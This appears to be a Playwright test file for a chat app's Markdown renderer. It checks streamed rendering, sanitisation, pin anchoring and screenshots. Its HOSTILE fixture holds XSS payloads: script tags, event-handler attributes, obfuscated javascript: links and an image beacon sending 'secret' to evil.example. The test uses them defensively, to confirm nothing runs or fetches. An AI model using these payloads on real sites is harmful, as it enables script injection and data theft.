"""Rendered Markdown in the page: a streamed answer with a table, code and math grows block by block; a hostile
corpus runs nothing and fetches nothing; a pin made across bold text anchors the right source range; no CSP
violation; screenshots (light, dark, phone width) in test-artifacts/.

Answers with given Markdown come from the fake upstream's `text=<urlsafe base64>` directive.
"""

from __future__ import annotations

import asyncio
import base64

import pytest

from tests.browser.conftest import VIEWPORT
from tests.browser.helpers import (
    ARTIFACTS,
    PINS,
    answer_text,
    boot,
    new_thread,
    panel,
    send,
    wait_answer,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")

CSP_RECORDER = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
                          (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""

RICH = """# Results

The run was **fast** and the `cache` helped: $E = mc^2$ holds.

| Model | Tokens | Time |
|:------|-------:|:----:|
| small | 1200 | 3 s |
| large | 4800 | 9 s |

```python
def total(items):
    # add them up
    return sum(x * 2 for x in items)
```

$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$

- [x] measured
- [ ] written up

Done.
"""

HOSTILE = """<script>window.__pwned = 1</script>
<img src=x onerror="window.__pwned = 2"><iframe src="https://evil.example/"></iframe>

Links: [one](javascript:window.__pwned=3) [two](JaVaScRiPt:alert(1)) [three](jav&#x09;ascript:alert(1))
[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [five](  javascript:alert(1))
<a href="https://evil.example/" onclick="window.__pwned=4">raw</a> &lt;b onmouseover=alert(1)&gt;
[[nested [brackets]]](https://example.com/ok) <https://example.com/auto>

![leak](https://evil.example/collect?q=secret) ![x](javascript:alert(1))

<svg onload="window.__pwned=5"><style>body{display:none}</style>

```html
<script>window.__pwned = 6</script>
"""


def reply(text: str, chunk: int = 4, delay_ms: int = 0) -> str:
    encoded = base64.urlsafe_b64encode(text.encode()).decode()
    return f"[[text={encoded} chunk={chunk} delay_ms={delay_ms}]]"


def body(thread_id: int, index: int = -1) -> str:
    """JS expression: the .msg-body of an answer of the thread."""
    return (f"(() => {{ const all = document.querySelectorAll(\"section.panel[data-thread-id='{thread_id}'] "
            f".msg[data-role=assistant] .msg-body\"); return all[{index} < 0 ? all.length + {index} : {index}]; }})()")


async def new_page(browser, **options):
    context = await browser.new_context(**{"viewport": VIEWPORT, **options})
    page = await context.new_page()
    page.problems = []
    page.on("pageerror", lambda exc: page.problems.append(str(exc)))
    await page.add_init_script(CSP_RECORDER)
    return page


async def test_streamed_markdown_renders_incrementally(app_page):
    page = app_page
    console = []
    page.on("console", lambda m: console.append(m.text) if m.type in ("error", "warning") else None)
    tid = await new_thread(page)
    # Sample the answer at every animation frame, in the page (round trips from here are too slow to see steps).
    await page.evaluate(f"""() => {{
        window.__md = [];
        const tick = () => {{
            const b = {body(tid)};
            if (b) {{
                const first = b.querySelector('h1');
                if (first && !first.__seen) first.__seen = true;
                window.__md.push({{status: b.parentElement.dataset.status, text: b.textContent,
                                   tables: b.querySelectorAll('table').length,
                                   code: b.querySelectorAll('.code-block').length,
                                   math: b.querySelectorAll('math').length}});
                if (b.parentElement.dataset.status !== 'streaming') return;
            }}
            requestAnimationFrame(tick);
        }};
        requestAnimationFrame(tick);
    }}""")
    await send(page, tid, "Report " + reply(RICH, chunk=3, delay_ms=30))
    await wait_answer(page, tid, "complete")
    samples = await page.evaluate("() => window.__md")
    streaming = [s for s in samples if s["status"] == "streaming"]
    assert len({len(s["text"]) for s in streaming}) >= 5, "the answer did not grow in steps"
    summary = [(len(s["text"]), s["tables"], s["code"], s["math"]) for s in streaming]
    assert any(s["tables"] and s["math"] < 2 for s in streaming), f"no table while streaming: {summary} {console}"
    assert any(s["code"] for s in streaming), "no code block while streaming"
    assert all("```" not in s["text"] for s in samples), "a fence showed as backticks"
    assert all("**" not in s["text"] for s in samples), "emphasis showed as asterisks"
    final = await page.evaluate(f"""() => {{
        const b = {body(tid)};
        const h1 = b.querySelector('h1');
        return {{md: b.classList.contains('md'), h1kept: !!(h1 && h1.__seen), strong: b.querySelector('strong').textContent,
                 cells: [...b.querySelectorAll('td')].map(td => td.textContent),
                 right: b.querySelectorAll('td.align-right').length,
                 lang: b.querySelector('.code-lang').textContent,
                 code: b.querySelector('pre').textContent, spans: b.querySelectorAll('pre span.k, pre span.kn').length,
                 math: [...b.querySelectorAll('math')].map(m => m.namespaceURI),
                 display: b.querySelectorAll('math[display=block]').length,
                 boxes: b.querySelectorAll('input[type=checkbox][disabled]').length}};
    }}""")
    assert final["md"] and final["h1kept"], "the heading was rebuilt while the answer went on"
    assert final["strong"] == "fast"
    assert final["cells"] == ["small", "1200", "3 s", "large", "4800", "9 s"] and final["right"] == 2
    assert final["lang"] == "python" and final["spans"] >= 2
    assert final["code"] == "def total(items):\n    # add them up\n    return sum(x * 2 for x in items)\n"
    assert len(final["math"]) == 2 and set(final["math"]) == {"http://www.w3.org/1998/Math/MathML"}
    assert final["display"] == 1 and final["boxes"] == 2
    await page.screenshot(path=str(ARTIFACTS / "markdown-light.png"), full_page=False)
    assert page.problems == []


async def test_hostile_markdown_runs_nothing_and_fetches_nothing(browser, app_server):
    page = await new_page(browser)
    requests = []
    dialogs = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), asyncio.ensure_future(d.dismiss())))
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Hostile " + reply(HOSTILE, chunk=5))
        await wait_answer(page, tid, "complete")
        await page.wait_for_timeout(300)
        shown = await page.evaluate(f"""() => {{
            const b = {body(tid)};
            const all = [...document.querySelectorAll('.messages *')];
            return {{text: b.textContent,
                     bad: all.filter(e => ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'svg'].includes(e.tagName)).length,
                     handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
                     hrefs: [...b.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel, a.target]),
                     unsafe: b.querySelectorAll('.unsafe-link').length,
                     placeholder: [...b.querySelectorAll('button.img-placeholder')].map(e => e.textContent),
                     pwned: window.__pwned === undefined ? null : window.__pwned}};
        }}""")
        assert shown["pwned"] is None and dialogs == []
        assert shown["bad"] == 0 and shown["handlers"] == []
        for href, rel, target in shown["hrefs"]:
            assert href.startswith("https://") and rel == "noopener noreferrer" and target == "_blank", href
        assert {h[0] for h in shown["hrefs"]} == {"https://example.com/ok", "https://example.com/auto"}
        assert shown["unsafe"] >= 1  # a link markdown-it accepts but we do not: its text, no href
        assert shown["placeholder"] and "evil.example" in shown["placeholder"][0]
        text = shown["text"]
        for visible in ("<script>window.__pwned = 1</script>", '<img src=x onerror="window.__pwned = 2">',
                        "<b onmouseover=alert(1)>", "[one](javascript:window.__pwned=3)", "three", "[four](data:text/html",
                        '<a href="https://evil.example/" onclick="window.__pwned=4">raw</a>', "nested [brackets]",
                        "![x](javascript:alert(1))", '<svg onload="window.__pwned=5">',
                        "<script>window.__pwned = 6</script>"):
            assert visible in text, visible
        assert "evil.example" not in "".join(u for u in requests if not u.startswith(app_server.url))
        assert all(u.startswith(app_server.url) or u.startswith("data:") for u in requests), \
            [u for u in requests if not u.startswith(app_server.url)]
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
    finally:
        await page.context.close()


async def test_pin_across_bold_anchors_the_source_range(browser, app_server):
    source = "Alpha beta **gamma delta** epsilon zeta.\n\nSecond *paragraph* here.\n"
    page = await new_page(browser)
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Bold " + reply(source))
        await wait_answer(page, tid, "complete")
        # Select from "beta" (plain text) to the end of "delta" (inside <strong>), as a drag would.
        await page.evaluate(f"""() => {{
            const b = {body(tid)};
            const p = b.querySelector('p');
            const first = p.firstChild, inner = p.querySelector('strong').firstChild;
            const range = document.createRange();
            range.setStart(first, first.data.indexOf('beta'));
            range.setEnd(inner, inner.data.indexOf('delta') + 5);
            getSelection().removeAllRanges();
            getSelection().addRange(range);
            const r = range.getBoundingClientRect();
            b.dispatchEvent(new MouseEvent('mouseup', {{bubbles: true, clientX: r.right, clientY: r.bottom}}));
        }}""")
        await page.locator("[data-testid=pin]").click()
        await page.wait_for_function("() => document.querySelectorAll('section.panel-pin').length === 1")
        pin_id = int(await page.locator(PINS).get_attribute("data-thread-id"))
        detail = app_server.get(f"/api/threads/{pin_id}")
        anchor = detail.get("thread", detail)["anchor"]
        assert (anchor["start"], anchor["end"]) == (source.index("beta"), source.index("delta") + len("delta"))
        marks = panel(page, tid).locator(f"mark.pin-anchor[data-pin-id='{pin_id}']")
        await marks.first.wait_for()
        assert "".join(await marks.all_inner_texts()) == "beta gamma delta"
        assert await panel(page, tid).locator("strong mark.pin-anchor").count() == 1
        assert await answer_text(page, tid) == "Alpha beta gamma delta epsilon zeta.Second paragraph here."
        await page.screenshot(path=str(ARTIFACTS / "markdown-pin.png"))
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
    finally:
        await page.context.close()


@pytest.mark.parametrize("name, options", [
    ("dark", {"color_scheme": "dark"}),
    ("phone", {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}),
])
async def test_screenshots(browser, app_server, name, options):
    page = await new_page(browser, **options)
    try:
        await boot(page, app_server)
        tid = await new_thread(page)
        await send(page, tid, "Report " + reply(RICH, chunk=40))
        await wait_answer(page, tid, "complete")
        await page.wait_for_timeout(200)
        await page.screenshot(path=str(ARTIFACTS / f"markdown-{name}.png"))
        width = await page.evaluate("() => [document.documentElement.scrollWidth, window.innerWidth]")
        if name == "phone":
            assert width[0] <= width[1] + 1, f"the page scrolls sideways at phone width: {width}"
        assert await page.evaluate("() => window.__csp") == []
        assert page.problems == []
    finally:
        await page.context.close()
